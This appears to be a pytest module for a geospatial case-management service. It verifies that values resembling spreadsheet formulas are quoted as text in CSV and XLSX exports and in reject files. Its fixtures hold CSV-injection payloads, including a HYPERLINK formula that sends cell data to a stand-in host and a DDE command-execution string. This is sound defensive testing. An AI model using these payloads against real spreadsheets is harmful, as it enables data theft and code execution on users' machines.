"""Text of ingested files that starts like a spreadsheet formula comes out as text in every
spreadsheet the service hands out: downloads, ledgers and rejects files."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine

from geo_service.api.app import create_app
from geo_service.core.settings import Settings
from geo_service.ingest import IngestOptions, ingest_file
from geo_service.store import make_engine, migrate
from geo_service.store.boundaries import load_divisions
from tests.conftest import account_headers

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'
CALC = "=cmd|' /C calc'!A0"
TEXTS = {
    "violation_type": LINK,
    "enterprise_name": CALC,
    "description": "+SUM(1,2)",
    "law_article": "-2+3",
    "status": "@SUM(1)",
}


def _cases(path: Path) -> Path:
    """Two located cases whose texts start like formulas, and one with a bad date whose
    cells (tab and carriage return first among them) go to the rejects."""
    rows = [
        {
            "case_id": "INJ-1",
            "decision_date": "2024-03-01",
            "lon": 108.37,
            "lat": 22.82,
            "crs": "WGS84",
            "penalty_amount": 5000,
            **TEXTS,
            "备注": "ok",
        },
        {
            "case_id": "INJ-2",
            "decision_date": "2024-04-01",
            "lon": 108.40,
            "lat": 22.80,
            "crs": "WGS84",
            "penalty_amount": 20000,
            **TEXTS,
            "备注": "ok",
        },
        {
            "case_id": "=INJ-3",
            "decision_date": "2024-13-45",
            "lon": 108.40,
            "lat": 22.80,
            "crs": "WGS84",
            "penalty_amount": 1,
            **TEXTS,
            "备注": "\t=1+1",
        },
        {
            "case_id": "INJ-4",
            "decision_date": "2024-13-45",
            "lon": 108.40,
            "lat": 22.80,
            "crs": "WGS84",
            "penalty_amount": 1,
            **TEXTS,
            "备注": "\r=1+1",
        },
    ]
    frame = pd.DataFrame(rows).rename(columns={"备注": "=备注"})  # a hostile header too
    frame.to_csv(path, index=False, encoding="utf-8", lineterminator="\r\n")  # CR quoted
    return path


@pytest.fixture(scope="module")
def own_store(
    tmp_path_factory: pytest.TempPathFactory, divisions_gdf: gpd.GeoDataFrame
) -> Iterator[Engine]:
    """A store of this module's own (its uploads leave audit entries other tests count)."""
    engine = make_engine(f"sqlite:///{tmp_path_factory.mktemp('injection') / 'geo.db'}")
    migrate(engine)
    load_divisions(engine, divisions_gdf)
    yield engine
    engine.dispose()


@pytest.fixture(scope="module")
def loaded(
    own_store: Engine, tmp_path_factory: pytest.TempPathFactory
) -> tuple[TestClient, dict[str, str], int]:
    """A client, an admin's headers and the batch of the cases loaded through the API."""
    url = own_store.url.render_as_string(hide_password=False)
    client = TestClient(create_app(Settings(database_url=url, rate_limit_per_minute=0)))
    admin = account_headers(own_store, "admin", "450000")
    body = _cases(tmp_path_factory.mktemp("upload") / "cases.csv").read_bytes()
    response = client.post("/ingest/cases?filename=cases.csv", content=body, headers=admin)
    assert response.status_code == 201, response.text
    summary = response.json()
    assert summary["accepted"] == 2 and summary["by_reason"] == {"bad_date": 2}
    return client, admin, int(summary["batch_id"])


def _quoted(value: str) -> str:
    return "'" + value


def test_downloaded_csv_has_quoted_texts_and_numeric_amounts(
    loaded: tuple[TestClient, dict[str, str], int],
) -> None:
    client, admin, _ = loaded
    response = client.get("/downloads/cases.csv", headers=admin)
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert len(rows) == 2
    for row in rows:
        for column, text in TEXTS.items():
            assert row[column] == _quoted(text)
        float(row["penalty_amount"])  # a plain number, no quote
        assert not row["penalty_amount"].startswith("'") and not row["lon"].startswith("'")


def test_downloaded_xlsx_has_text_cells_and_number_cells(
    loaded: tuple[TestClient, dict[str, str], int],
) -> None:
    client, admin, _ = loaded
    response = client.get("/downloads/cases.xlsx", headers=admin)
    assert response.status_code == 200, response.text
    sheet = openpyxl.load_workbook(io.BytesIO(response.content))["data"]
    header = [c.value for c in sheet[1]]
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == 2
    for row in rows:
        for column, text in TEXTS.items():
            cell = row[header.index(column)]
            assert cell.value == _quoted(text) and cell.data_type == "s"
        amount = row[header.index("penalty_amount")]
        assert amount.data_type == "n" and amount.value in (5000, 20000)
    assert all(c.data_type != "f" for row in rows for c in row)


def test_ledger_xlsx_has_text_groups_and_number_counts(
    loaded: tuple[TestClient, dict[str, str], int],
) -> None:
    client, admin, _ = loaded
    response = client.get("/stats/cases.xlsx?group_by=type", headers=admin)
    assert response.status_code == 200, response.text
    sheet = openpyxl.load_workbook(io.BytesIO(response.content))["行政处罚案件台账"]
    header = [c.value for c in sheet[1]]
    row, total = list(sheet.iter_rows(min_row=2))
    kind = row[header.index("违法类型/问题类别")]
    assert kind.value == _quoted(LINK) and kind.data_type == "s"
    cases = row[header.index("案件数（件）")]
    assert cases.value == 2 and cases.data_type == "n"
    assert row[header.index("罚款金额合计（元）")].value == 25000
    assert total[0].value == "合计" and total[header.index("案件数（件）")].value == 2


def _check_rejects(text: str) -> None:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, body = rows[0], rows[1:]
    assert header[-1] == "'=备注"
    assert [r[0] for r in body] == ["4", "5"]  # row numbers stay numbers
    by_column = [dict(zip(header, r, strict=True)) for r in body]
    assert by_column[0]["case_id"] == "'=INJ-3"
    assert by_column[0]["'=备注"] == "'\t=1+1" and by_column[1]["'=备注"] == "'\r=1+1"
    for row in by_column:
        assert row["reason"] == "bad_date"
        for column, value in TEXTS.items():
            assert row[column] == _quoted(value)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)


def test_rejects_served_by_the_api_are_quoted(
    loaded: tuple[TestClient, dict[str, str], int],
) -> None:
    client, admin, batch = loaded
    response = client.get(f"/ingest/batches/{batch}/rejects.csv", headers=admin)
    assert response.status_code == 200, response.text
    _check_rejects(response.content.decode("utf-8-sig"))


def test_the_cli_rejects_file_is_quoted(own_store: Engine, tmp_path: Path) -> None:
    rejects = tmp_path / "out" / "cases.rejects.csv"
    options = IngestOptions(kind="cases", rejects_path=rejects, progress=False)
    summary = ingest_file(own_store, _cases(tmp_path / "cases.csv"), options)
    assert summary["rejected"] == 2
    _check_rejects(rejects.read_bytes().decode("utf-8-sig"))
